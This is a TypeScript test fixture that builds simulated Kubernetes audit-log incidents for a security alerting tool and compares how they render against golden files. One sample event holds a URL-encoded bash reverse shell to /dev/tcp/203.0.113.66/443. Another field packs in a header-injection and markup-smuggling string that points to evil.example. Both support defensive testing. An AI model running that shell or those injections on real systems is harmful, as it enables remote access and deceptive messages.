/** A dozen incidents, whose renderings are golden files. */
import { renderAlert } from '../../../src/alert/alert.ts';
import type { IncidentNews } from '../../../src/incident/incident.ts';
import type { ReadAlert } from '../../../src/incident/read-alert.ts';
import type { Rule } from '../../../src/rule.ts';
import type { JsonObject, Origin } from '../../../src/schema/audit-event.ts';
import { auditSource } from '../../../src/source/audit/source.ts';
import { exec, origin, rule, signalOf, sourced } from '../../alert/sample.ts';
import { incidentOf, newsOf, read } from './sample.ts';

type RuleOf = Pick<Rule, 'id' | 'name' | 'severity'> & Partial<Rule>;

const created = Date.parse('2026-03-01T10:05:00Z');

function alertAt(time: string, event: JsonObject, by: RuleOf, from: Origin = origin): ReadAlert {
  const timed = {
    ...event,
    auditID: `${by.id}-${time}`,
    requestReceivedTimestamp: time,
    stageTimestamp: time,
  };
  const signal = signalOf(timed, {
    rule: { ...rule, ...by } as Rule,
    origin: from,
    events: [sourced(timed, { origin: from })],
  });
  return read(renderAlert(signal, created, auditSource));
}

const tactic = (id: string, name: string): Rule['threat'][number] => ({
  framework: 'MITRE ATT&CK',
  tactic: { id, name, reference: `https://attack.mitre.org/tactics/${id}/` },
});

const execRule: RuleOf = { id: 'exec', name: 'User Exec into a Pod', severity: 'low' };
const shellRule: RuleOf = {
  id: 'shell',
  name: 'Exec with a Reverse Shell',
  severity: 'critical',
  note: '## Triage\n\n1. Take the address from the command\n   and look for it in the `flow logs`.\n2. Ask [who](https://example.com/oncall) it was.\n\n## Response\n\n- Cut the pod **off**.',
};
const secretsRule: RuleOf = {
  id: 'secrets',
  name: 'Secrets of All Namespaces Read by Hand',
  severity: 'high',
  threat: [tactic('TA0006', 'Credential Access')],
  note: '### Possible investigation steps\n\n- Find out whose workstation it is.\n- Rotate what was read.\n\n> A remark.',
};
const bindingRule: RuleOf = {
  id: 'binding',
  name: 'Cluster-Admin Bound',
  severity: 'high',
  threat: [tactic('TA0003', 'Persistence')],
};
const refusedRule: RuleOf = {
  id: 'refused',
  name: 'Request Refused',
  severity: 'low',
  buildingBlock: true,
  threat: [tactic('TA0007', 'Discovery')],
};
const anonymousRule: RuleOf = {
  id: 'anonymous',
  name: 'Many Paths Tried Anonymously',
  severity: 'medium',
  threat: [tactic('TA0007', 'Discovery')],
};

const person = {
  ...(exec.user as JsonObject),
  extra: {
    arn: ['arn:aws:sts::111122223333:assumed-role/admin/alice'],
    canonicalArn: ['arn:aws:iam::111122223333:role/admin'],
    sessionName: ['alice'],
    accessKeyId: ['ASIAEXAMPLE'],
  },
};
const secrets = {
  ...exec,
  user: person,
  verb: 'list',
  requestURI: '/api/v1/secrets?limit=500',
  objectRef: { resource: 'secrets', apiVersion: 'v1' },
  responseStatus: { code: 200 },
};
const web = {
  ...exec,
  verb: 'create',
  user: {
    username: 'system:serviceaccount:shop:web',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:shop', 'system:authenticated'],
    extra: {
      'authentication.kubernetes.io/pod-name': ['web-5d9f'],
      'authentication.kubernetes.io/node-name': ['ip-10-0-1-17.eu-west-1.compute.internal'],
    },
  },
  sourceIPs: ['10.0.1.17'],
  userAgent: 'curl/8.5.0',
  requestURI: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
  objectRef: { resource: 'clusterrolebindings', apiGroup: 'rbac.authorization.k8s.io', apiVersion: 'v1' },
  requestObject: {
    metadata: { name: 'web-admin' },
    roleRef: { kind: 'ClusterRole', name: 'cluster-admin' },
    subjects: [{ kind: 'ServiceAccount', name: 'web', namespace: 'shop' }],
  },
  responseStatus: { code: 201 },
};
const forbidden = {
  responseStatus: { code: 403, reason: 'Forbidden' },
  annotations: { 'authorization.k8s.io/decision': 'forbid' },
};
const anonymous = {
  ...exec,
  ...forbidden,
  user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
  verb: 'list',
  requestURI: '/api/v1/pods',
  objectRef: { resource: 'pods', apiVersion: 'v1' },
};
const shell = {
  ...exec,
  user: person,
  requestURI:
    '/api/v1/namespaces/default/pods/web-0/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F203.0.113.66%2F443&container=app',
};
const node = {
  ...secrets,
  user: {
    username: 'system:node:ip-10-0-12-91.eu-west-1.compute.internal',
    groups: ['system:nodes'],
    extra: { arn: ['arn:aws:sts::111122223333:assumed-role/nodes/i-0fbb5522e53a50ae8'] },
  },
};
const green: Origin = {
  source: '/aws/eks/green/cluster/kube-apiserver-audit-9',
  cluster: 'green',
  account: '444455556666',
  region: 'us-gov-west-1',
};
const objects: Origin = { ...origin, source: 's3://audit-logs/eks/blue/2026/03/01/10.gz' };

const hostileName = 'x\r\nBcc: a@b\u202e <!channel> @here [runbook](https://evil.example) `id` *b*';
const hostile = {
  ...exec,
  user: { username: hostileName, groups: ['system:authenticated'] },
  userAgent: '<https://evil.example|runbook> from 192.0.2.1 with kubectl 1.0 (newest of 2 requests)',
  objectRef: { resource: 'pods', subresource: 'exec', namespace: hostileName, name: hostileName },
  requestURI:
    '/api/v1/namespaces/a/pods/b/exec?command=echo&command=x%20from%20192.0.2.1%20with%20kubectl%201.0',
};

const at = (clock: string) => `2026-03-01T${clock}.123456Z`;
const now = (clock: string) => Date.parse(`2026-03-01T${clock}Z`);

const first = [
  alertAt(at('10:00:02'), secrets, secretsRule),
  alertAt(at('10:00:02'), secrets, { ...refusedRule, id: 'secret-read', name: 'Secret Read by a Person' }),
];
const later = [
  alertAt(at('10:04:10'), { ...secrets, ...forbidden }, refusedRule),
  alertAt(at('10:06:30'), shell, shellRule),
  alertAt(at('10:06:30'), shell, execRule),
];
const told = { at: now('10:00:07'), times: 1, severity: 'high', alerts: 2 } as const;
const known = first.map(({ alert }) => alert.id);
const execs = Array.from({ length: 20 }, (_, i) =>
  alertAt(
    at(`10:00:${10 + i}`),
    { ...exec, objectRef: { ...(exec.objectRef as object), name: `web-${i}` } },
    execRule,
  ),
);
const pod = [alertAt(at('10:00:02'), web, bindingRule)];
const impersonating = [
  alertAt(
    at('10:00:02'),
    { ...web, ...forbidden, impersonatedUser: { username: 'system:admin', groups: ['system:masters'] } },
    bindingRule,
  ),
];
const scan = ['10:00:02', '10:00:40'].map((clock) => alertAt(at(clock), anonymous, anonymousRule));
const far = [
  alertAt('2026-02-28T23:59:58.000Z', secrets, secretsRule),
  alertAt('2026-03-01T00:10:00.000Z', { ...secrets, sourceIPs: ['198.51.100.4'] }, secretsRule, green),
];
const evil = [alertAt(at('10:00:02'), hostile, execRule), alertAt(at('10:00:09'), hostile, shellRule)];
const bare = [
  alertAt(
    at('10:00:02'),
    {},
    { ...rule, id: 'bare', name: 'Anything', severity: 'medium', threat: [] },
    {
      source: 'events.ndjson',
    },
  ),
];

const one = incidentOf(first);
const update = incidentOf([...first, ...later], { told }, known);
const more = incidentOf(
  [...first, ...later.slice(0, 1)],
  {
    told: { ...told, times: 3 },
    leftOut: { actors: 0, entities: 2, alerts: 4 },
    alertCount: 7,
    ends: { allowed: 5, refused: 2, failed: 0, unknown: 0 },
  },
  known,
);

export const cases: Readonly<Record<string, IncidentNews>> = {
  'one-alert': newsOf(
    [incidentOf([alertAt(at('10:00:02'), { ...exec, user: person }, execRule)])],
    first,
    now('10:00:05'),
  ),
  'first-news': newsOf([one], first, now('10:00:05')),
  'severity-rose': newsOf([update], [...first, ...later], now('10:06:35')),
  'more-alerts': newsOf([more], first, now('10:10:00')),
  'twenty-execs': newsOf([incidentOf(execs)], execs, now('10:01:00')),
  'a-pod': newsOf([incidentOf(pod)], pod, now('10:00:05')),
  impersonating: newsOf([incidentOf(impersonating)], impersonating, now('10:00:05')),
  anonymous: newsOf([incidentOf(scan)], scan, now('10:01:00')),
  'several-actors': newsOf(
    [incidentOf([...first, ...pod, alertAt(at('10:03:00'), node, { ...secretsRule, id: 'node' })])],
    [...first, ...pod],
    now('10:05:00'),
  ),
  'over-midnight': newsOf([incidentOf(far)], far, now('00:10:10')),
  merged: newsOf(
    [
      incidentOf(
        [...first, ...pod],
        { told, merged: ['a1b2c3d4e5f6'] },
        [...first, ...pod].map(({ alert }) => alert.id),
      ),
    ],
    first,
    now('10:05:00'),
  ),
  digest: newsOf(
    [
      update,
      incidentOf(pod, { id: 'aaaaaaaaaaaa' }),
      incidentOf(scan, { id: 'bbbbbbbbbbbb' }),
      incidentOf(execs, { id: 'cccccccccccc', merged: ['dddddddddddd'], told: { ...told, severity: 'low' } }),
    ],
    [...first, ...later, ...pod],
    now('10:10:00'),
  ),
  objects: newsOf(
    [incidentOf([alertAt(at('10:00:02'), secrets, secretsRule, objects)])],
    first,
    now('10:00:05'),
  ),
  hostile: newsOf([incidentOf(evil)], evil, now('10:00:15')),
  bare: newsOf([incidentOf(bare)], bare, now('10:00:15')),
};
